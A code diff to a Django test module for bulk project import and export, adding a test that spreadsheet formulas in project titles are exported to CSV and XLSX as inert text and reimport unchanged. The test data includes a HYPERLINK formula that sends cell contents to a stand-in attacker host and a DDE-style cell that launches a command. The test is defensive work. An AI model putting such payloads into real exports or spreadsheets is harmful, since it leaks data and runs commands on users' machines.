@@ -1,5 +1,6 @@
 """The bulk import of projects: plan, apply, re-import, rejections, XLSX, command and web page."""
 
+import csv
 import datetime
 import getpass
 import io
@@ -11,7 +12,7 @@ from django.contrib.auth.models import Permission
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.core.management import CommandError, call_command
 from django.urls import include, path
-from openpyxl import Workbook
+from openpyxl import Workbook, load_workbook
 
 from core.models import ObjectChange
 from hamkor.permissions import SYSTEM
@@ -580,3 +581,21 @@ def test_updates_need_the_change_permission_too(web, client, make_user, existing
 
     assert applied.status_code == 403
     assert snapshot() == before
+
+
+FORMULA_TITLE = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
+
+
+def test_exports_write_formulas_inert_and_import_them_back_unchanged(make_project, tmp_path):
+    make_project('F-1', title_en=FORMULA_TITLE, title_ru="@SUM(1+1)*cmd|' /C calc'!A0")
+    projects = selectors.project_filter(SYSTEM, {}).qs
+    csv_file, xlsx_file = tmp_path / 'export.csv', tmp_path / 'export.xlsx'
+    csv_file.write_text(''.join(downloads.stream_csv(projects)), encoding='utf-8')
+    downloads.write_xlsx(projects, xlsx_file)
+
+    row = next(csv.DictReader(io.StringIO(csv_file.read_text(encoding='utf-8-sig'))))
+    assert (row['title_en'], row['title_ru']) == ("'" + FORMULA_TITLE, "'@SUM(1+1)*cmd|' /C calc'!A0")
+    cell = load_workbook(xlsx_file)['projects'].cell(row=2, column=downloads.COLUMNS.index('title_en') + 1)
+    assert (cell.data_type, cell.value) == ('s', "'" + FORMULA_TITLE)  # text, not a formula
+    for file in (csv_file, xlsx_file):
+        assert plan_import(file).counts == {'create': 0, 'update': 0, 'unchanged': 1, 'reject': 0}
